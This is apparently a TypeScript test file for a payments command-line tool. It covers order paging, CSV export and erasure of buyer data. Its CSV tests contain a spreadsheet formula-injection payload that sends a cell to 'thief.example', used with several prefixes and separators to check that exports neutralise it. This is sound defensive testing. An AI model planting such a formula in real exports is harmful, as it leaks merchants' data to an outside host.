/** Tests that `pay-elements orders` lists each order once, whatever happens between two pages. */
import assert from 'node:assert/strict';
import { PassThrough } from 'node:stream';
import { text } from 'node:stream/consumers';
import { test, describe, type TestContext } from 'node:test';
import { CompanionClient, type Fields } from '../../../server/cli/client.ts';
import { orders } from '../../../server/cli/commands/orders.ts';
import { textOutput } from '../../../server/cli/output.ts';
import { csv } from '../../../server/cli/csv.ts';
import { forget } from '../../../server/cli/commands/forget.ts';
import { merchantKey } from '../routes/mounted.ts';
import { openSellingShop, type SellingShop } from '../selling/selling-shop.ts';

const order = (id: string, created_at: string): Fields => ({
  id,
  created_at,
  reference: id,
  status: 'paid',
  amounts: { BRL: '1.00' },
  purchase: { price: 'mug', quantity: 1, collected: {} },
});

class PagingClient extends CompanionClient {
  readonly #pages: Fields[][];
  readonly queries: Fields[] = [];

  constructor(pages: Fields[][]) {
    super({ url: 'http://companion.test', merchantKey: 'mk' });
    this.#pages = pages;
  }

  override async get(_path: string, query: Fields = {}): Promise<Fields> {
    this.queries.push(query);
    const data = this.#pages.shift() ?? [];
    return { data, next: this.#pages.length > 0 ? String(data.at(-1)?.['id']) : null };
  }
}

/** The references in the file of `orders --csv`. */
async function listed(pages: Fields[][], since?: string): Promise<unknown[]> {
  return await listedBy(new PagingClient(pages), since === undefined ? {} : { since });
}

async function listedBy(client: PagingClient, options: Record<string, string>): Promise<unknown[]> {
  const output = new PassThrough();
  const terminal = {
    input: Object.assign(new PassThrough(), { isTTY: false }),
    output: textOutput(output),
    error: textOutput(new PassThrough()),
  };
  await orders.run({
    client,
    settings: { url: '', merchantKey: '' },
    values: { csv: true, ...options },
    positionals: [],
    isJson: false,
    terminal,
  });
  output.end();
  const [, ...lines] = (await text(output)).trim().split(/\r?\n/);
  return lines.map((line) => line.split(',')[1]);
}

const [c, b, a] = [
  order('c', '2026-11-02T00:00:00.200Z'),
  order('b', '2026-11-01T23:59:59.900Z'),
  order('a', '2026-11-02T00:00:00.100Z'),
];

test('orders lists no order twice that is on two pages, as after the removal of an order', async () => {
  assert.deepEqual(
    await listed([
      [c, b],
      [b, a],
    ]),
    ['c', 'b', 'a'],
  );
});

test('orders --since lists an order that follows one of a clock that is behind', async () => {
  const earlier = order('0', '2026-11-01T22:00:00.000Z');
  assert.deepEqual(await listed([[c, b, a, earlier], [a]], '2026-11-02'), ['c', 'a']);
});

test('orders --q lists all orders that the companion finds, also those without a price list', async () => {
  const { purchase: _, ...plain } = order('d', '2026-11-03T00:00:00.000Z');
  const client = new PagingClient([[{ ...plain, customer: { name: 'João' } }, c], [b]]);
  assert.deepEqual(await listedBy(client, { q: 'joão & co' }), ['d', 'c', 'b']);
  assert.deepEqual(
    client.queries.map(({ q }) => q),
    ['joão & co', 'joão & co'],
  );
});

/** Tests that a buyer's text cannot become a formula in the merchant's spreadsheet. */
describe('csv', () => {
  /** The fields of a file as a spreadsheet reads it: a quote only counts at the start of a field. */
  function fieldsOf(text: string, separator: string): string[] {
    const fields: string[] = [];
    for (let rest = text; rest !== '';) {
      const quoted = /^"((?:[^"]|"")*)"?/.exec(rest);
      const start = quoted?.[0] ?? '';
      const [, more = '', end = ''] =
        new RegExp(`^([^${separator}\r\n]*)([${separator}\r\n]*)`).exec(rest.slice(start.length)) ?? [];
      fields.push((quoted?.[1] ?? '').replaceAll('""', '"') + more);
      rest = rest.slice(start.length + more.length + end.length);
    }
    return fields;
  }

  const formula = '=HYPERLINK("https://thief.example/?"&A1)';

  for (const [name, separator] of [
    ['commas', ','],
    ['semicolons, as Excel in Brazil', ';'],
    ['tabs', '\t'],
  ] as const) {
    test(`no text of a buyer is a formula, if the spreadsheet separates fields by ${name}`, () => {
      for (const sign of ['=', '+', '-', '@', '＝']) {
        for (const start of ['', 'a;', 'a;"', 'a; ', 'a,', 'a\t', 'a\n', 'a\r\n', 'a"\n"', '" ', ';;']) {
          const note = start + sign + formula.slice(1);
          const text = csv(['reference', 'note'], [{ reference: 'mug-1', note }]);
          const found = fieldsOf(text, separator).filter((field) => /^[\s"]*[=+\-@＝]/.test(field));
          assert.deepEqual(found, [], JSON.stringify(text));
        }
      }
    });
  }

  test('other text stays as it is', () => {
    const rows = [
      { note: 'Rua das Flores, 10 - fundos; +1 hora: "agora"' },
      { note: 'a-b; c=d' },
      { note: 12 },
    ];
    assert.equal(
      csv(['note'], rows),
      `note\r\n"Rua das Flores, 10 - fundos; '+1 hora: ""agora"""\r\na-b; c=d\r\n12\r\n`,
    );
  });
});

/** Tests that `forget` erases the buyer's data of the named order only. */
describe('forget', () => {
  const customer = { name: 'Ana Souza', email: 'ana@shop.example' };

  async function shopWithOrder(t: TestContext): Promise<{ shop: SellingShop; id: string }> {
    const shop = await openSellingShop(t, { baseUrl: 'http://127.0.0.1:9/api' });
    const order = { reference: 'order-1', amounts: { BRL: '10.00' }, customer };
    const { body } = await shop.merchant('POST', '/v1/checkouts', order);
    const id = String(body['id']);
    await shop.merchant('POST', `/v1/checkouts/${id}/cancel`);
    return { shop, id };
  }

  const run = ({ url }: SellingShop, reference: string): Promise<number> =>
    forget.run({
      client: new CompanionClient({ url, merchantKey }),
      settings: { url, merchantKey },
      values: {},
      positionals: [reference],
      isJson: false,
      terminal: {
        input: new PassThrough(),
        output: textOutput(new PassThrough()),
        error: textOutput(new PassThrough()),
      },
    });

  const customerOf = async ({ shop, id }: { shop: SellingShop; id: string }): Promise<unknown> =>
    (await shop.merchant('GET', `/v1/checkouts/${id}`)).body['customer'];

  test('erases the data of the order with this reference', async (t) => {
    const made = await shopWithOrder(t);
    assert.equal(await run(made.shop, 'order-1'), 0);
    assert.deepEqual(await customerOf(made), {});
  });

  test('an empty reference, as of an unset variable, erases nobody', async (t) => {
    const made = await shopWithOrder(t);
    await assert.rejects(run(made.shop, ''), { message: 'No order with this reference' });
    assert.deepEqual(await customerOf(made), customer);
  });
});
